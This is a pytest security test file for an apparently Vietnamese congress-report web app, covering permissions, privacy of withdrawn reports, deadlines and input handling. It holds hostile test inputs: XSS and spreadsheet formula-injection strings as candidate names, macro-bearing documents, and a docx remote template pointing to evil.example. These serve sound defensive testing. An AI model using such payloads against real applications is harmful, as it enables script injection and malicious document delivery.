"""Attacks on congress reports, each tried by who would gain from it (issue 4; security.md §3.5)."""

from datetime import date

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from django.utils import timezone

from common import uploads
from common.errors import RuleViolation
from congress_reports.definitions import answers_of, definition_of, surroundings_of
from congress_reports.enums import ReportState
from congress_reports.forms import check
from congress_reports.forms.sheets import digest, digest_of_rows, sheet_named
from congress_reports.models import Congress, Report
from congress_reports.services import (
    approve,
    approve_many,
    attach,
    check_again,
    extend,
    reject,
    release,
    save_answers,
    send,
    take,
    unapprove,
    withdraw,
)
from congress_reports.services.deadlines import follow_congresses
from congress_reports.services.escalation import escalate_unit
from members.enums import PostCode
from members.models import Member
from members.services import give_post
from notifications.models import Notice
from orgtree.enums import Reach, Role
from orgtree.services import give_grant
from tests.cast import make_member
from tests.congress_reports.campaigns import (
    REASON,
    decided,
    filled,
    letter_000,
    near_secretary,
    report_of,
    sent,
    sent_by_branch,
    taken,
)
from tests.congress_reports.reports import (
    BRANCH,
    FORMS,
    an_election,
    changed,
    quality_of_a_branch,
    result_of_a_branch,
    result_of_a_grassroots,
)
from tests.documents import docx, pdf, uploaded

pytestmark = pytest.mark.django_db

SECRET_REASON = "Biên bản ghi mười chín phiếu"


def url(name: str, *args) -> str:
    return reverse(f"congress_reports:{name}", args=args)


def with_a_warning(report, author) -> Report:
    """A draft that may be sent only with a reason (V30: few members, and a committee all the same)."""
    answers = result_of_a_branch()
    answers.fields |= {"members_total": 9, "members_official": 8, "members_probationary": 1}
    answers.fields |= {"members_exempt": 0, "summoned": 8, "present": 8, "absent_excused": 0, "election_base": 8}
    for one in answers.rounds:
        one.fields |= {"attending": 8, "base": 8, "ballots_issued": 8, "ballots_returned": 8, "ballots_valid": 8}
        for at, person in enumerate(one.candidates):
            person.votes = [8, 7, 6, 2][at]
    form, around = definition_of(report), surroundings_of(report)
    answers.reasons = {one.key: SECRET_REASON for one in check(form, answers, around) if not one.is_hard}
    assert answers.reasons
    return save_answers(report=report, answers=answers, revision=report.revision, actor=author)


# What was withdrawn is the unit's own again


@pytest.fixture
def withdrawn(world):
    letter_000(world)
    author = near_secretary(world)
    report = with_a_warning(report_of(world.near_branch, "a"), author)
    report = send(report=report, revision=report.revision, actor=author)
    assert report.has_soft_findings
    return withdraw(report=report, actor=author)


@pytest.mark.parametrize("query", ["?trang_thai=unfiled", "?trang_thai=all", "?trang_thai=all&canh_bao=co"])
def test_warnings_of_a_withdrawn_report_are_not_in_the_list_of_the_superior(world, client_of, withdrawn, query):
    body = client_of(world.committee).get(url("approvals") + query).content.decode()
    assert SECRET_REASON not in body
    assert "dưới 9 thì không bầu" not in body
    assert ("canh_bao" in query) != (f'href="{withdrawn.get_absolute_url()}"' in body)


def test_a_withdrawn_report_tells_the_superior_nothing_of_why_it_was_incomplete(world, client_of):
    letter_000(world)
    above = report_of(world.company, "c")
    above = save_answers(report=above, answers=result_of_a_grassroots(), revision=0, actor=world.committee)
    reason = "Chi bộ Ga chưa báo cáo vì bất đồng"
    above = send(report=above, revision=above.revision, incomplete_reason=reason, actor=world.committee)
    assert reason in client_of(world.org_department).get(above.get_absolute_url()).content.decode()
    withdraw(report=above, actor=world.committee)
    assert reason not in client_of(world.org_department).get(above.get_absolute_url()).content.decode()
    assert reason in client_of(world.committee).get(above.get_absolute_url()).content.decode()


@pytest.mark.parametrize("who", ["committee", "org_department", "inspector"])
@pytest.mark.parametrize(
    ("name", "more"),
    [
        ("version", (1,)),
        ("version_pdf", (1,)),
        ("version_workbook", (1,)),
        ("version_minutes", (1, 0)),
        ("pdf", ()),
        ("workbook", ()),
        ("minutes", (0,)),
    ],
)
def test_no_address_shows_a_withdrawn_version_to_those_above(world, client_of, withdrawn, who, name, more):
    assert client_of(world.user(who)).get(url(name, withdrawn.pk, *more)).status_code == 404


# Rights across the tree


def strangers(world):
    deputy_of_the_section = make_member(world.branch, "Ngô Văn Sung").account
    give_grant(user=deputy_of_the_section, unit=world.section, role=Role.DEPUTY_SECRETARY, actor=None)
    officer = make_member(world.near_branch, "Đào Văn Chín").account
    give_grant(user=officer, unit=world.company, role=Role.HANDBOOK_OFFICER, actor=None)
    return [world.org_department, world.inspector, world.secretary, world.outsider, deputy_of_the_section, officer]


def test_nobody_but_the_direct_superior_decides(world):
    report = taken(world)
    release(report=report, actor=world.committee)
    for user in strangers(world):
        for act in (
            lambda user: take(report=report, version=1, actor=user),
            lambda user: approve(report=report, version=1, actor=user),
            lambda user: reject(report=report, version=1, reason=REASON, actor=user),
            lambda user: release(report=report, actor=user),
            lambda user: unapprove(report=report, reason=REASON, actor=user),
            lambda user: check_again(report=report, actor=user),
            lambda user: withdraw(report=report, actor=user),
            lambda user: extend(report=report, until=date(2027, 1, 1), reason=REASON, actor=user),
            lambda user: escalate_unit(unit=report.unit, actor=user),
        ):
            with pytest.raises((PermissionDenied, RuleViolation)):
                act(user)
        assert approve_many(chosen=[(report.pk, 1)], actor=user).approved == 0
    report.refresh_from_db()
    assert (report.state, report.extended_to, report.escalated_by) == (ReportState.SENT, None, None)


# The author, by a second role


@pytest.fixture
def two_hats(world):
    """Files for the branch, and decides in the company above it."""
    user = near_secretary(world)
    give_grant(user=user, unit=world.company, role=Role.DEPUTY_SECRETARY, actor=None)
    return user


def test_the_author_does_not_decide_by_a_second_role(world, two_hats):
    report = sent_by_branch(world)
    with pytest.raises(RuleViolation, match="đã lập hoặc gửi"):
        approve(report=report, version=1, actor=two_hats)
    with pytest.raises(RuleViolation, match="đã lập hoặc gửi"):
        reject(report=report, version=1, reason=REASON, actor=two_hats)
    assert approve_many(chosen=[(report.pk, 1)], actor=two_hats).approved == 0


def test_who_only_added_a_file_does_not_decide_either(world):
    letter_000(world)
    author, helper = near_secretary(world), make_member(world.near_branch, "Lò Văn Ổi").account
    for unit, role in ((world.near_branch, Role.DEPUTY_SECRETARY), (world.company, Role.DEPUTY_SECRETARY)):
        give_grant(user=helper, unit=unit, role=role, actor=None)
    report = filled(report_of(world.near_branch, "a"), author)
    attach(report=report, file=uploaded(pdf()), title="", actor=helper)
    report.refresh_from_db()
    report = send(report=report, revision=report.revision, actor=author)
    with pytest.raises(RuleViolation, match="đã lập hoặc gửi"):
        approve(report=report, version=1, actor=helper)


def test_nobody_gives_his_own_unit_more_time(world, two_hats):
    """He has not begun yet, so he has no hand in it; he will."""
    letter_000(world)
    report = report_of(world.near_branch, "a")
    with pytest.raises(RuleViolation, match="không tự gia hạn"):
        extend(report=report, until=date(2025, 12, 1), reason=REASON, actor=two_hats)


def test_nobody_silences_the_reminders_of_his_own_unit(world, two_hats):
    letter_000(world)
    with pytest.raises(RuleViolation, match="không tự"):
        escalate_unit(unit=world.near_branch, actor=two_hats)
    assert not Report.objects.exclude(escalated_by=None).exists()


# Deadlines


def test_an_extension_never_shortens_the_time(world):
    """The congress is put off after the extension: the later of the two days holds."""
    campaign = letter_000(world)
    report = report_of(world.company, "c")
    line = Congress.objects.create(campaign=campaign, unit=world.company, planned_on=date(2025, 4, 1))
    follow_congresses(campaign.pk, [world.company.pk])
    report = extend(report=report, until=date(2025, 4, 10), reason=REASON, actor=world.org_department)
    line.planned_on = date(2025, 5, 20)
    line.save()
    follow_congresses(campaign.pk, [world.company.pk])
    report.refresh_from_db()
    assert report.last_day == date(2025, 5, 25)


def test_an_extension_does_not_do_away_with_the_last_day(world):
    letter_000(world)
    report = report_of(world.near_branch, "a")
    with pytest.raises(RuleViolation, match="muộn quá"):
        extend(report=report, until=date(9999, 12, 31), reason=REASON, actor=world.committee)


# Figures that cannot be true


def ids(findings) -> set[str]:
    return {one.rule for one in findings if one.is_hard}


def test_nobody_is_elected_into_one_body_twice(world):
    answers = result_of_a_branch()
    again = an_election("committee", [("Nguyễn Văn An", 1975, 19, True)], 1, round_no=2)
    answers.rounds.insert(1, again)
    assert ids(check(FORMS["a"], answers, BRANCH))


def test_the_secretary_is_not_his_own_deputy(world):
    answers = result_of_a_branch()
    answers.rounds[2].candidates[0].name, answers.rounds[2].candidates[0].birth_year = "Nguyễn Văn An", 1975
    assert ids(check(FORMS["a"], answers, BRANCH))


def test_a_first_election_is_no_tie_break(world):
    """Else whoever had less than half of the votes is elected by a tick."""
    answers = changed(result_of_a_branch(), "rounds.1.is_tiebreak", True)
    answers.rounds[1].candidates[0].votes = 3
    assert ids(check(FORMS["a"], answers, BRANCH))


def test_two_reports_of_one_congress_tell_one_closing_day(world):
    letter_000(world)
    author = near_secretary(world)
    sent(report_of(world.near_branch, "a"), author)
    answers = quality_of_a_branch()
    answers.fields |= {"opened_on": date(2025, 4, 14), "closed_on": date(2025, 4, 15)}
    other = report_of(world.near_branch, "b")
    other = save_answers(report=other, answers=answers, revision=0, actor=author)
    with pytest.raises(RuleViolation, match="12/04/2025"):
        send(report=other, revision=other.revision, actor=author)
    assert Congress.objects.get(unit=world.near_branch).held_on == date(2025, 4, 12)


# Forged fields


def type_into(client, report, section: str, row: str = "", **typed):
    answers = answers_of(report)
    sheet = sheet_named(definition_of(report), answers, section, row)
    base = {"base": digest(answers, sheet), "rows": digest_of_rows(answers, sheet), "page": "p\x00"}
    return client.post(
        url("entry_save_row", report.pk, section, row) if row else url("entry_save", report.pk, section), base | typed
    )


@pytest.fixture
def draft(world):
    letter_000(world)
    return filled(report_of(world.near_branch, "a"), near_secretary(world))


@pytest.fixture
def typist(world, draft, client_of):
    return client_of(near_secretary(world))


def section_named(report, kind: str) -> str:
    return next(one.code for one in definition_of(report).sections if one.kind == kind)


@pytest.mark.parametrize("text", ["Ga\x00Đồng Lê", "\x00"])
def test_a_sign_that_the_database_refuses_is_no_fault_of_the_server(draft, typist, text):
    form = definition_of(draft)
    for section in form.sections:
        if section.kind == "fields":
            typed = {one.code: text for one in section.fields}
            # A branch is not asked for the branches below it: no such page.
            assert type_into(typist, Report.objects.get(pk=draft.pk), section.code, **typed).status_code in {200, 404}
    rounds = section_named(draft, "rounds")
    draft.refresh_from_db()
    typed = {"rounds.0.candidates.0.name": text, "rounds.0.seats": text, "ly-do:V30:": text}
    assert type_into(typist, draft, rounds, "0", **typed).status_code == 200
    answers = answers_of(Report.objects.get(pk=draft.pk))
    sheet = sheet_named(form, answers, rounds, "0")
    base = {"base": digest(answers, sheet), "rows": digest_of_rows(answers, sheet), "page": "p\x00"}
    typed = base | {"act": "add-person", "new_name": f"Lê{text}Bình"}
    assert typist.post(url("entry_row", draft.pk, rounds, "0"), typed).status_code in {200, 302}


def test_a_name_and_a_number_too_long_for_the_columns_are_sent_all_the_same(world, draft):
    author = near_secretary(world)
    answers = result_of_a_branch()
    for one in answers.rounds:
        one.fields["round_no"] = 99_999
        one.candidates[0].name = one.candidates[0].name.replace("Văn", "Văn " * 60)
    draft.refresh_from_db()
    draft = save_answers(report=draft, answers=answers, revision=draft.revision, actor=author)
    assert send(report=draft, revision=draft.revision, actor=author).elected.count() == 5


def test_reasons_with_forbidden_signs(world, client_of):
    report = taken(world)
    given = {"reason": "Số liệu\x00 chưa khớp biên bản", "confirm": "yes", "lan": "1"}
    assert client_of(world.committee).post(url("reject", report.pk), given).status_code == 200


def test_a_day_before_all_days_is_an_address_like_any_other(world, client_of):
    letter_000(world)
    for day in ("0001-01-01", "9999-12-31", "0001-01-02"):
        assert client_of(world.org_department).get(url("board"), {"ngay": day}).status_code == 200


# Who is told


def test_who_lost_his_role_is_told_nothing_of_the_decision(world):
    letter_000(world)
    author, gone = near_secretary(world), make_member(world.near_branch, "Lò Văn Ổi").account
    grant = give_grant(user=gone, unit=world.near_branch, role=Role.COMMITTEE_MEMBER, actor=None)
    report = filled(report_of(world.near_branch, "a"), gone)
    report = send(report=report, revision=report.revision, actor=author)
    type(grant).objects.filter(pk=grant.pk).update(revoked_at=timezone.now())
    Notice.objects.all().delete()
    reject(
        report=take(report=report, version=1, actor=world.committee), version=1, reason=REASON, actor=world.committee
    )
    assert set(Notice.objects.filter(kind="reports.decided").values_list("user", flat=True)) == {author.pk}


def test_phones_of_late_units_are_for_who_keeps_the_records(world, client_of):
    letter_000(world)
    near_secretary(world)
    phones = {member.phone for member in world.people.values()}
    for who in ("inspector", "org_department", "committee"):
        body = client_of(world.user(who)).get(url("late"), {"pham-vi": "tat-ca"}).content.decode()
        assert not any(phone in body.replace(" ", "").replace(".", "") for phone in phones)
    assert client_of(world.inspector).get(url("late_calls")).status_code == 403
    assert client_of(world.secretary).get(url("late_calls"), {"don-vi": world.company.pk}).status_code == 404


def test_a_role_over_one_unit_alone_reads_no_phones_below_it(world, client_of):
    letter_000(world)
    near_secretary(world)
    give_post(
        member=Member.objects.get(full_name="Phan Thị Sim"), unit=world.near_branch, code=PostCode.SECRETARY, actor=None
    )
    clerk = make_member(world.near_branch, "Lò Văn Ổi").account
    give_grant(user=clerk, unit=world.company, role=Role.HANDBOOK_OFFICER, reach=Reach.UNIT, actor=None)
    for name in ("late", "late_calls"):
        whole = client_of(world.committee).get(url(name), {"don-vi": world.company.pk})
        assert world.near_branch.name in whole.content.decode()
        answer = client_of(clerk).get(url(name), {"don-vi": world.company.pk})
        assert answer.status_code == 200
        assert "Phan Thị Sim" not in answer.content.decode()
        assert world.section.name not in answer.content.decode()


# Many at once


def test_what_became_doubtful_after_the_check_page_is_left_out(world):
    report = sent_by_branch(world)
    for change in ({"stale_since": timezone.now()}, {"incomplete_reason": REASON}, {"has_soft_findings": True}):
        before = {name: getattr(report, name) for name in change}
        Report.objects.filter(pk=report.pk).update(**change)
        outcome = approve_many(chosen=[(report.pk, 1)], actor=world.committee)
        assert (outcome.approved, len(outcome.left_out)) == (0, 1)
        Report.objects.filter(pk=report.pk).update(**before)


def test_what_becomes_doubtful_while_many_are_approved_is_left_out(world, monkeypatch):
    """Between the look at the row and its lock."""
    report = sent_by_branch(world)
    from congress_reports.services import bulk

    looked = bulk.why_not_at_once

    def look(*given):
        answer = looked(*given)
        Report.objects.filter(pk=report.pk).update(stale_since=timezone.now())
        return answer

    monkeypatch.setattr(bulk, "why_not_at_once", look)
    outcome = approve_many(chosen=[(report.pk, 1)], actor=world.committee)
    assert outcome.approved == 0


# Files


def test_headers_do_not_push_the_degree_of_secrecy_out_of_the_head():
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    lines = "".join(f"<w:p><w:r><w:t>dòng {n}</w:t></w:r></w:p>" for n in range(60))
    header = f'<w:hdr xmlns:w="{word}">{lines}</w:hdr>'.encode()
    content = docx("MẬT", "BIÊN BẢN", more={"word/header1.xml": header})
    with pytest.raises(RuleViolation, match="độ mật"):
        uploads.look_at(uploaded(content, "bien-ban.docx"))


@pytest.mark.parametrize("name", ["word/VBAPROJECT.BIN", "word/macros/vbaProject.bin", "custom/vbaproject.bin"])
def test_a_macro_is_found_under_any_path(name):
    with pytest.raises(RuleViolation, match="macro"):
        uploads.look_at(uploaded(docx(more={name: b"x"}), "bien-ban.docx"))


def test_a_macro_is_found_by_its_declared_type():
    types = b'<Types><Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    with pytest.raises(RuleViolation, match="macro"):
        uploads.look_at(uploaded(docx(more={"[Content_Types].xml": types, "word/a.bin": b"x"}), "bien-ban.docx"))


def test_a_document_that_fetches_its_template_from_elsewhere_is_not_taken():
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(RuleViolation, match="máy chủ khác"):
        uploads.look_at(uploaded(docx(more={"word/_rels/settings.xml.rels": link}), "bien-ban.docx"))


# Names as weapons


def test_names_run_neither_in_pages_nor_in_workbooks(world, client_of, tmp_path):
    from openpyxl import load_workbook

    from congress_reports.papers import report_workbook

    letter_000(world)
    author = near_secretary(world)
    report = report_of(world.near_branch, "a")
    answers = result_of_a_branch()
    for one in answers.rounds:
        for person in one.candidates:
            if person.name == "Nguyễn Văn An":
                person.name = "=HYPERLINK(1) <script>alert(1)</script>"
    answers.fields["place"] = "@SUM(1) <img src=x onerror=alert(1)>"
    report = save_answers(report=report, answers=answers, revision=0, actor=author)
    report = send(report=report, revision=report.revision, actor=author)
    for name in ("report", "version"):
        args = (report.pk,) if name == "report" else (report.pk, 1)
        body = client_of(world.committee).get(url(name, *args)).content.decode()
        assert "<script>alert" not in body
        assert "<img src=x" not in body
    report_workbook(report, tmp_path / "a.xlsx", report.versions.get())
    for sheet in load_workbook(tmp_path / "a.xlsx"):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not str(cell.value or "").startswith(("=", "@", "+"))


def test_an_approved_report_cannot_be_marked_by_its_sender_in_the_database(world):
    from django.db import IntegrityError, transaction

    report = decided(world)
    with pytest.raises(IntegrityError), transaction.atomic():
        Report.objects.filter(pk=report.pk).update(decided_by=report.sent_by)
